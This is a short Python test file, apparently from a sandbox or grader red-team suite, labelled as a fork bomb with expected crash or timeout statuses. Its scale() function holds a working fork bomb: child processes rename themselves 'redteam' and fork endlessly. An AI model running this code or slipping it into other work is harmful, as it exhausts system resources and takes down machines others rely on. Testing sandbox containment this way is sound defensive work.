"""A fork bomb (21).

status: failed|crashed|timeout|memory failed|crashed|timeout|memory|invalid
danger: fork bomb
"""
import os


def scale(x, k):
    try:
        for _ in range(2):
            if os.fork() == 0:
                with open("/proc/self/comm", "w") as file:
                    file.write("redteam")
                while True:
                    os.fork()
    except OSError:
        pass
    return x


def total(x):
    return -1.0
